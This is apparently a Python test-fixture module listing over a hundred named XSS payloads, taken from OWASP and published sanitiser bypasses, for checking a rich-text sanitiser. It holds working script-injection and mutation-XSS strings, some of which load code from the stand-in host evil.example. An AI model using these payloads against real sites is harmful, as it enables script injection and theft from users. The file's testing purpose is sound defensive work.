"""Known XSS vectors, for proving the rich-text sanitiser and what prints rich text.

Written from OWASP's XSS filter evasion cheat sheet, html5sec.org and published
mutation-XSS (mXSS) bypasses of HTML sanitisers (DOMPurify, Bleach, Google's
Closure). Each is named, so that a failure says which one got through; the payloads
only call ``alert`` or load from ``evil.example``, a name that never resolves.
"""

from typing import NamedTuple


class Vector(NamedTuple):
    name: str
    html: str


_SCRIPT_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
_SVG_B64 = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>

VECTORS = [
    # Script elements, in every casing and spelling.
    Vector("script", "<script>alert(1)</script>"),
    Vector("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    Vector("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    Vector("script-src", "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>"),
    Vector(
        "script-slash-attribute", '<SCRIPT/XSS SRC="//evil.example/xss.js"></SCRIPT>'
    ),
    Vector("script-unclosed", "<script src=//evil.example/xss.js?<b>"),
    Vector("script-double-open", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
    Vector("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Vector("script-space-before-close", "<script >alert(1)</script >"),
    Vector(
        "script-module", "<script type=module>import('//evil.example/x.js')</script>"
    ),
    Vector("script-after-broken-img", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
    Vector("script-null-byte", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    # Event handlers, on allowed and on unknown elements.
    Vector("img-onerror", "<img src=x onerror=alert(1)>"),
    Vector("img-onerror-slashes", '<img/src="x"/onerror=alert(1)>'),
    Vector("img-onerror-backticks", "<img src=`x` onerror=`alert(1)`>"),
    Vector("img-onerror-mixed-case", "<IMG SRC=x OnErRoR=alert(1)>"),
    Vector("img-onerror-entities", '<img src=x onerror="&#97;&#108;ert(1)">'),
    Vector(
        "img-onload-external", '<img src="https://evil.example/x.png" onload=alert(1)>'
    ),
    Vector("img-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    Vector("body-onload", "<body onload=alert(1)>"),
    Vector("p-onmouseover", '<p onmouseover="alert(1)">hover</p>'),
    Vector("h2-onclick", '<h2 onclick="alert(1)" class="x">Heading</h2>'),
    Vector("td-onclick", "<table><tr><td onclick=alert(1)>cell</td></tr></table>"),
    Vector("a-onclick", '<a href="https://www.almere.nl/" onclick="alert(1)">link</a>'),
    Vector("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary>"),
    Vector("input-onfocus-autofocus", "<input autofocus onfocus=alert(1)>"),
    Vector("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    Vector("audio-onerror", "<audio src=x onerror=alert(1)>"),
    Vector("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    Vector("unknown-element-onclick", "<x-evil onclick=alert(1)>click</x-evil>"),
    Vector("is-attribute", '<p is="x-evil" onclick=alert(1)>x</p>'),
    Vector(
        "attribute-quote-breakout",
        '<a href="/" title="&quot; onmouseover=&quot;alert(1)">x</a>',
    ),
    Vector(
        "alt-quote-breakout",
        '<img alt="x&quot; onerror=&quot;alert(1)" src="/m/x.png">',
    ),
    Vector("attribute-confusion", '<img src="/" =_=" title="onerror=\'alert(1)\'">'),
    Vector(
        "link-wrapping-onerror",
        '<a href="https://www.almere.nl/"><img src=x onerror=alert(1)></a>',
    ),
    # javascript: and other script URLs, however spelt.
    Vector("a-javascript", '<a href="javascript:alert(1)">x</a>'),
    Vector("a-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    Vector("a-javascript-unquoted", "<a href=javascript:alert(1)>x</a>"),
    Vector("a-javascript-leading-spaces", '<a href="  javascript:alert(1)">x</a>'),
    Vector("a-javascript-leading-control", '<a href="\x01javascript:alert(1)">x</a>'),
    Vector("a-javascript-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    Vector("a-javascript-newline-entity", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    Vector("a-javascript-named-tab", '<a href="java&Tab;script:alert(1)">x</a>'),
    Vector("a-javascript-raw-newline", '<a href="java\nscript:alert(1)">x</a>'),
    Vector(
        "a-javascript-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
        'alert(1)">x</a>',
    ),
    Vector(
        "a-javascript-hex-entities-unterminated",
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A'
        '&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>',
    ),
    Vector(
        "a-javascript-padded-entities",
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
        '&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    ),
    Vector("a-javascript-colon-entity", '<a href="javascript&colon;alert(1)">x</a>'),
    Vector("a-javascript-comment-newline", '<a href="javascript://%0aalert(1)">x</a>'),
    Vector("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    Vector("img-javascript-src", '<img src="javascript:alert(1)">'),
    Vector(
        "img-dynsrc-lowsrc",
        '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    ),
    Vector("img-srcset", '<img srcset="javascript:alert(1) 1x" src="/m/x.png" alt="">'),
    Vector(
        "table-background",
        '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    ),
    Vector(
        "blockquote-cite", '<blockquote cite="javascript:alert(1)">quote</blockquote>'
    ),
    Vector("bgsound", '<bgsound src="javascript:alert(1)">'),
    # data: URLs.
    Vector(
        "a-data-html-base64", f'<a href="data:text/html;base64,{_SCRIPT_B64}">x</a>'
    ),
    Vector(
        "a-data-upper-case", '<a href="DATA:text/html,<script>alert(1)</script>">x</a>'
    ),
    Vector("img-data-svg", f'<img src="data:image/svg+xml;base64,{_SVG_B64}">'),
    Vector(
        "object-data-base64",
        f'<object data="data:text/html;base64,{_SCRIPT_B64}"></object>',
    ),
    Vector(
        "iframe-data",
        '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    ),
    Vector("embed-data-svg", f'<embed src="data:image/svg+xml;base64,{_SVG_B64}">'),
    # SVG.
    Vector("svg-onload", "<svg onload=alert(1)>"),
    Vector("svg-script", "<svg><script>alert(1)</script></svg>"),
    Vector("svg-script-href", '<svg><script href="data:,alert(1)"/></svg>'),
    Vector(
        "svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"
    ),
    Vector(
        "svg-set-href",
        '<svg><a><set attributeName="href" to="javascript:alert(1)"/>'
        '<text y="20">x</text></a></svg>',
    ),
    Vector(
        "svg-xlink-href",
        '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    ),
    Vector(
        "svg-use-data",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/"
        "2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    ),
    Vector(
        "svg-foreignobject-iframe",
        '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe>'
        "</foreignObject></svg>",
    ),
    Vector("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    Vector(
        "svg-p-style-breakout",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    ),
    Vector(
        "svg-cdata-breakout",
        '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    ),
    # MathML.
    Vector("math-href", '<math href="javascript:alert(1)">click</math>'),
    Vector(
        "math-maction-xlink",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x'
        "</maction></math>",
    ),
    Vector(
        "math-mtext-img", "<math><mtext><img src=x onerror=alert(1)></mtext></math>"
    ),
    Vector(
        "math-mglyph-style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ),
    Vector(
        "math-form-mglyph",
        "<form><math><mtext></form><form><mglyph><style></math>"
        "<img src onerror=alert(1)>",
    ),
    Vector(
        "math-textarea-path",
        '<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea>'
        '<img onerror=alert(1) src=1>">',
    ),
    # Mutation XSS and broken markup.
    Vector(
        "noscript-title",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ),
    Vector(
        "noembed-title", '<noembed><p title="</noembed><img src=x onerror=alert(1)>">'
    ),
    Vector("xmp-title", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
    Vector("style-nested-breakout", "<div><style><style/><img src=x onerror=alert(1)>"),
    Vector("title-element", "<title><img src=x onerror=alert(1)></title>"),
    Vector("textarea-breakout", "<textarea></textarea><img src=x onerror=alert(1)>"),
    Vector("template-element", "<template><img src=x onerror=alert(1)></template>"),
    Vector("plaintext-element", "<plaintext><img src=x onerror=alert(1)>"),
    Vector("unclosed-tag", "<img src=x onerror=alert(1)//"),
    Vector("unclosed-attribute", '<img src="x" alt="a" "onerror=alert(1)>'),
    Vector("comment-abrupt-close", "<!--><img src=x onerror=alert(1)>-->"),
    Vector(
        "comment-conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"
    ),
    Vector("cdata-section", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    Vector("processing-instruction", '<?xml-stylesheet href="javascript:alert(1)"?>'),
    Vector(
        "xml-namespace-htc",
        '<html xmlns:xss><?import namespace="xss" '
        'implementation="//evil.example/x.htc"><xss:xss>XSS</xss:xss></html>',
    ),
    # Encoded forms that must stay text.
    Vector("entity-encoded-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    Vector("numeric-encoded-script", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    Vector(
        "double-encoded-script", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"
    ),
    Vector("utf7-script", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    # Frames, plugins and forms.
    Vector("iframe", '<iframe src="https://evil.example/"></iframe>'),
    Vector("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    Vector(
        "iframe-srcdoc",
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    ),
    Vector("iframe-unclosed", "<iframe src=//evil.example/ <"),
    Vector("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    Vector(
        "object",
        '<object data="//evil.example/x.swf" '
        'type="application/x-shockwave-flash"></object>',
    ),
    Vector("embed", '<embed src="//evil.example/x.swf">'),
    Vector("applet", '<applet code="Evil.class" codebase="//evil.example/"></applet>'),
    Vector(
        "form-action", '<form action="javascript:alert(1)"><button>Go</button></form>'
    ),
    Vector("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    Vector(
        "input-image-formaction",
        "<form><input type=image src=x formaction=javascript:alert(1)></form>",
    ),
    Vector("isindex", "<isindex type=image src=1 onerror=alert(1)>"),
    # The document's head: base, meta refresh, imports.
    Vector("base-href", '<base href="javascript:alert(1)//">'),
    Vector(
        "meta-refresh",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    ),
    Vector(
        "meta-refresh-data",
        '<meta http-equiv="refresh" '
        f'content="0;url=data:text/html;base64,{_SCRIPT_B64}">',
    ),
    Vector("link-import", '<link rel="import" href="//evil.example/x.html">'),
    Vector("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
    # CSS.
    Vector("style-element", "<style>@import '//evil.example/x.css';</style>"),
    Vector("style-expression", '<p style="width: expression(alert(1))">x</p>'),
    Vector(
        "style-expression-comment", '<p style="xss:expr/*XSS*/ession(alert(1))">x</p>'
    ),
    Vector(
        "style-url-javascript",
        '<p style="background-image: url(javascript:alert(1))">x</p>',
    ),
    Vector("style-behavior", '<p style="behavior: url(//evil.example/x.htc)">x</p>'),
    Vector(
        "style-moz-binding",
        '<p style="-moz-binding: url(//evil.example/x.xml#xss)">x</p>',
    ),
    # Link tricks.
    Vector("a-target-blank", '<a href="https://evil.example/" target="_blank">x</a>'),
    Vector(
        "a-ping", '<a href="https://www.almere.nl/" ping="https://evil.example/t">x</a>'
    ),
]
